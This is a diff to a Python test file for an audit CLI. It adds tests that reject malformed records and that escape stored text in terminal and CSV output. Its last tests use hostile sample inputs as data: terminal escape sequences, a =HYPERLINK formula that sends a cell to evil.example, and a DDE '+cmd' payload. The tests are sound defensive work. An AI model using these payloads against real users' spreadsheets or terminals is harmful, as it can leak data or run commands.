@@ -84,7 +84,9 @@ def test_decide_list_export_and_verify(capsys, reports, store_url):
     code, out, _ = run(capsys, "audit", "list", "--report", old.report_id, "--view", "A", "--store", store_url)
     assert "setting.one-facilitator-for-duo [A]" in out and BP not in out
     code, out, _ = run(capsys, "audit", "verify", "--store", store_url)
-    assert code == 0 and out.startswith("2 decision records, chain intact; head " + exported[1]["record_hash"])
+    assert code == 0 and out.startswith(
+        "2 decision records and 1 reports, chain intact; head " + exported[1]["record_hash"] + ":"
+    )
 
 
 def test_verify_exits_1_naming_the_edited_record(capsys, reports, store_url):
@@ -113,6 +115,23 @@ def test_verify_exits_1_naming_the_edited_record(capsys, reports, store_url):
     raw_sql(store_url, ["UPDATE screening_decisions SET record = '{}' WHERE seq = 1".format(record.replace("dr.kim", "dr.who"))])
     code, out, err = run(capsys, "audit", "verify", "--store", store_url)
     assert code == 1 and "NOT intact" in out and "record 1: its content does not match its hash (edited)" in err
+
+
+def test_a_malformed_row_is_not_intact_and_list_and_export_go_on_past_it(capsys, reports, store_url):
+    """Issue 27, 2: exit 1 "record N: not readable", no traceback, nothing stored quoted; list/export skip it and say so."""
+    old_file, _, _ = reports
+    for flag, who in ((BP, "B"), ("setting.one-facilitator-for-duo", "A")):
+        argv = ["decide", old_file, "--flag", flag, "--participant", who, "--outcome", "noted", "--reviewer", "dr.kim"]
+        assert run(capsys, *argv, "--store", store_url)[0] == 0
+    drop_append_only_guards(store_url)
+    raw_sql(store_url, ["UPDATE screening_decisions SET record = '[\"ZZSECRET\"]' WHERE seq = 1"])
+    code, out, err = run(capsys, "audit", "verify", "--store", store_url)
+    assert code == 1 and "NOT intact" in out and "record 1: not readable" in err
+    assert "Traceback" not in err and "ZZSECRET" not in out + err
+    code, out, err = run(capsys, "audit", "list", "--store", store_url)
+    assert code == 0 and len(out.splitlines()) == 1 and "record 1: not readable; skipped" in err
+    code, out, err = run(capsys, "audit", "export", "--format", "csv", "--store", store_url)
+    assert code == 0 and len(out.splitlines()) == 2 and "record 1: not readable; skipped" in err
 
 
 @pytest.mark.parametrize(
@@ -217,7 +236,7 @@ def test_the_commands_run_as_a_real_process(tmp_path):
     verify = subprocess.run(
         [sys.executable, "-m", "screening", "audit", "verify"], capture_output=True, text=True, cwd=tmp_path, timeout=120
     )
-    assert verify.returncode == 0 and "1 decision records, chain intact" in verify.stdout
+    assert verify.returncode == 0 and "1 decision records and 1 reports, chain intact" in verify.stdout
 
 
 def test_the_core_never_imports_the_store_and_a_missing_extra_says_what_to_install(tmp_path):
@@ -235,3 +254,47 @@ def test_the_core_never_imports_the_store_and_a_missing_extra_says_what_to_insta
     )
     result = subprocess.run([sys.executable, "-c", blocked], capture_output=True, text=True, cwd=tmp_path, timeout=120)
     assert result.returncode == 2 and "pip install 'screening[store]'" in result.stderr and "Traceback" not in result.stderr
+
+
+HOSTILE_REVIEWER = "@SUM(1+1)\x1b[2J\x1b]0;owned\x07\rDr Evil\u202e"
+
+
+def test_stored_text_is_escaped_for_the_terminal_and_for_a_spreadsheet(capsys, reports, store_url):
+    """Issue 27, 3 and 4: a reviewer's name and reason text reach neither a terminal raw nor a
+    spreadsheet as a formula (OWASP: a cell starting with = + - @ TAB or CR gets an apostrophe)."""
+    old_file, new_file, _ = reports
+    argv = ["decide", old_file, "--flag", "setting.one-facilitator-for-duo", "--participant", "A"]
+    code, _, err = run(
+        capsys,
+        *argv,
+        "--outcome",
+        "overridden",
+        "--reason",
+        "other",
+        "--reason-text",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "--note",
+        "+cmd|' /C calc'!A0",
+        "--reviewer",
+        HOSTILE_REVIEWER,
+        "--store",
+        store_url,
+    )
+    assert code == 0, err
+    for command in (["audit", "list"], ["diff", old_file, new_file]):
+        code, out, _ = run(capsys, *command, "--store", store_url)
+        assert code == 0 and out
+        assert not any(c in out for c in "\x1b\x07\r\u202e"), command
+        assert "\\x1b[2J" in out and "\\u202e" in out
+    code, out, _ = run(capsys, "audit", "export", "--format", "csv", "--store", store_url)
+    row = next(csv.DictReader(io.StringIO(out, newline="")))
+    assert row["reviewer"].startswith("'@") and row["reason_text"].startswith("'=") and row["note"].startswith("'+")
+    assert row["reason_display"].startswith("'=")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_prefixed(cell):
+    from screening.cli.audit import csv_cell
+
+    assert csv_cell(cell) == "'" + cell and csv_cell("dr.kim") == "dr.kim" and csv_cell(3) == 3
